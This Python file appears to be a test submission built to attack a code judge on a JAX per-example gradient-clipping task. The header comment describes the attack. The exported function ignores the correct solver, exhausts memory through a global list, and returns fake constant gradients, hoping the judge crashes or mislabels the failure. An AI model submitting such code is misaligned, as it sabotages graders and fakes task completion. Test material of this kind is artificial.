# reason: memory
# attack: grab every byte left (catching MemoryError) and then return normally, hoping the judge's own code fails (IE); the child dies and maxrss near the limit maps it to MLE.
import jax
import jax.numpy as jnp

def _loss(params, x, y):
    err = jnp.dot(x, params["w"]) + params["b"] - y
    return 0.5 * err * err


def _solve(params, x, y, max_norm):
    grads = jax.vmap(jax.grad(_loss), in_axes=(None, 0, 0))(params, x, y)
    norms = jnp.sqrt(jnp.sum(grads["w"] ** 2, axis=1) + grads["b"] ** 2)
    scale = 1.0 / jnp.maximum(1.0, norms / max_norm)
    return {"grads": {"w": jnp.mean(grads["w"] * scale[:, None], axis=0), "b": jnp.mean(grads["b"] * scale)},
            "norms": norms}

HOARD = []


def per_example_grad_clip(params, x, y, max_norm):
    jax.vmap(jax.grad(_loss), in_axes=(None, 0, 0))
    if not HOARD:
        for chunk in (1 << 20, 1 << 16, 4096, 256, 16):
            try:
                while True:
                    HOARD.append(" " * chunk)
            except Exception:
                pass
    return {"grads": {"w": [0.5] * 64, "b": 0.25}, "norms": [1.5] * 64}
